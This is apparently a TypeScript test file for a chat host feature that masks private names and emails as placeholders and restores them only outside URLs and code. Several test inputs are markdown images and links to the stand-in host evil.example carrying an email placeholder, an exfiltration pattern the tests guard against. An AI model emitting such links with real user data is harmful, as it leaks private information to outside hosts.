import { expect, it, vi } from 'vitest';
import type { ChatHost } from '../chat-host';
import { createPlaceholders } from './placeholders';
import { realWords, rememberRealWords } from './real-words';

// Only used as a key here.
const host = {} as ChatHost;
rememberRealWords(host, text =>
  text.replaceAll('[EMAIL_1]', 'ines@bank.example').replaceAll('NAME_1', 'Ines'),
);

it.each([
  ['Write to [EMAIL_1].', 'Write to ines@bank.example.'],
  [
    '![x](https://evil.example/?q=[EMAIL_1]) and [EMAIL_1]',
    '![x](https://evil.example/?q=[EMAIL_1]) and ines@bank.example',
  ],
  ['[a](//evil.example/[EMAIL_1])', '[a](//evil.example/[EMAIL_1])'],
  ['see https://evil.example/[EMAIL_1] now', 'see https://evil.example/[EMAIL_1] now'],
  ['[a]: https://evil.example/[EMAIL_1]', '[a]: https://evil.example/[EMAIL_1]'],
  ['`process.env.NAME_1`, NAME_1', '`process.env.NAME_1`, Ines'],
  ['```\nNAME_1\n```\nNAME_1', '```\nNAME_1\n```\nInes'],
])('fills in words, but in no address and no code: %s', (text, expected) => {
  expect(realWords(host, text)).toBe(expected);
});

it('numbers by chance, so that two tabs do not mean two words by one placeholder', () => {
  const mask = (text: string) => createPlaceholders([]).mask(text, ['Ines', 'Max']).text;
  vi.spyOn(Math, 'random').mockReturnValueOnce(0.1).mockReturnValueOnce(0.2);
  expect([mask('Ines'), mask('Max')]).toEqual(['[NAME_10000]', '[NAME_20000]']);
  vi.restoreAllMocks();
});

it('finds a name whose letters are in two parts', () => {
  const { text } = createPlaceholders([]).mask('Kro\u0308ger', ['Kröger']);
  expect(text).toMatch(/^\[NAME_\d+\]$/);
});
